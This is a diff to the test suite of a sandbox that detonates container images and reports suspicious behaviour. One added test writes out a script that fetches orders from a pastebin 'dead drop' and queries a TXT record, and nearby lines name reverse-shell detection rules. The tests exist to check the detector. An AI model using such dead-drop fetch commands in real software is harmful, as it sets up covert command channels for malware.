@@ -147,6 +147,12 @@ class Verdicts(Case):
         self.assertEqual(sorted(runs), ['/bin/sh /opt/tune.sh', '/bin/true'], (report['targets'][0]['findings'], said))
         self.assertEqual(runs['/bin/sh /opt/tune.sh']['output'].strip(), 'ran by itself')
 
+    def test_the_own_command_runs_once(self):
+        """Although a threat lies in it, and --each runs whatever one lies in."""
+        image = self.image('once').put('opt/tune.sh', corpus.GUARD + 'exit 0\n' + RIVALS, 0o755).run('/opt/tune.sh').write('once:1')
+        _, report, said = detonate(self.temp, image, '--each', seconds=60)
+        self.assertEqual([r['command'] for r in report['targets'][0]['runs']], ['/opt/tune.sh'], said)
+
     def test_samples_refuse_to_run_elsewhere(self):
         for program in (SHAPE, ESCAPE, CLOCKS):
             done = subprocess.run([program, 'kill', '1', 'x', '1', '/x', '::1'], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, check=False)
@@ -320,6 +326,17 @@ wget -q -O- http://api.ipify.org/
         self.assertEqual((output.count('made'), output.count('refused')), (1, 2), (output, said))
         self.assertIn('Reverse shell', {f['rule'] for f in target['findings']})
 
+    def test_orders_that_lie_in_public(self):
+        """A dead drop by name and by page, then a host that is new: told, and counting beside other evidence only."""
+        script = corpus.GUARD + 'busybox nslookup -type=txt cfg.example >/dev/null; wget -q -O /tmp/p http://pastebin.com/raw/DAVYTEST; cat /tmp/p; wget -q -O- http://next.example/\n'
+        image = self.image('drop').put('opt/start.sh', script, 0o755).run('/opt/start.sh').write('acme/drop:1')
+        code, report, said = detonate(self.temp, image, seconds=60)
+        target = report['targets'][0]
+        rules = {f['rule']: f['kind'] for f in target['findings']}
+        self.assertEqual(rules.get('Jailed program asks where orders are left'), 'context', (rules, said))
+        self.assertEqual(rules.get('Jailed program asks a name for a text'), 'context', (rules, target['runs'][0]['output']))
+        self.assertEqual((code, target['verdict']['word']), (0, 'clean'), rules)
+
     def test_a_page_is_fetched_and_read(self):
         """Who reads a page that he fetched is no shell, although busybox, which he is, has one."""
         script = corpus.GUARD + 'wget -q -O /tmp/page http://shop.example/ && cat /tmp/page && grep -c works /tmp/page\n'
@@ -466,6 +483,11 @@ class Breaks(Case):
         code, report, _ = detonate(self.temp, self.image('user').run('/bin/true', user='1000690000').write('user:1'))
         self.assertEqual((code, 'up to 65535' in report['targets'][0]['failure']), (3, True))
 
+    def test_what_runs_already_is_no_image(self):
+        for name in ('/', '//.', 'pid:1'):
+            code, report, said = detonate(self.temp, name)
+            self.assertEqual((code, report['targets'][0]['failure']), (3, f'{name} runs already; an image can be detonated'), said)
+
     def test_odd_words_of_an_image_do_not_save_it(self):
         """An environment without names, a working folder that is relative: what other runtimes take, a jail takes."""
         image = self.image('odd')
@@ -473,29 +495,6 @@ class Breaks(Case):
         image.put('srv/start.sh', corpus.GUARD + 'pwd; echo $B\n', 0o755).run('./start.sh').write('odd:1')
         code, report, said = detonate(self.temp, image.folder, seconds=20)
         self.assertEqual((code, report['targets'][0]['runs'][0]['output']), (0, '/srv\n2\n'), (said, report['targets'][0]))
-
-    def test_a_stop_is_no_clean_run(self):
-        """During the run the report has what was seen and the code is 3; before it the signal ends the program, and nothing is left."""
-        sleeper = self.image('stopped').run('/bin/sleep', '60').write('stopped:1')
-        large = self.image('stopped-early').put('opt/large', os.urandom(1 << 20) * 300, 0o644).run('/bin/sleep', '60').write('early:1')
-        for image, code in ((sleeper, 3), (large, -signal.SIGTERM)):
-            out = self.temp / f'{image.name}.json'
-            child = subprocess.Popen([DAVY, 'detonate', '-q', '--no-feed', '-f', 'json', '-o', out, image], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
-                                     text=True, env={**os.environ, 'TMPDIR': str(self.temp), 'XDG_CACHE_HOME': str(self.temp / 'cache')})
-            if code == 3:
-                wait_for(lambda: any(pathlib.Path(p).read_text() for i in jails_of(self.temp) for p in glob.glob(f'/sys/fs/cgroup/**/{i}/cgroup.procs', recursive=True)))
-                time.sleep(1)
-            else:
-                wait_for(lambda: glob.glob(f'{self.temp}/davy-detonate-*/lower'), pause=0.01)
-            child.send_signal(signal.SIGTERM)
-            said = child.communicate(timeout=PATIENCE)[1]
-            self.assertEqual(child.returncode, code, said)
-            self.gone(lambda: glob.glob(f'{self.temp}/davy-detonate-*'))
-            self.assertEqual(out.exists(), code == 3)
-            if code == 3:
-                target = json.loads(out.read_text(encoding='utf-8'))['targets'][0]
-                self.assertEqual((target['runs'][0]['ended'], target['unread']['total']), ('it was stopped', 1), target)
-                self.assertIn('stopped', said)
 
 
 class Refusals(unittest.TestCase):
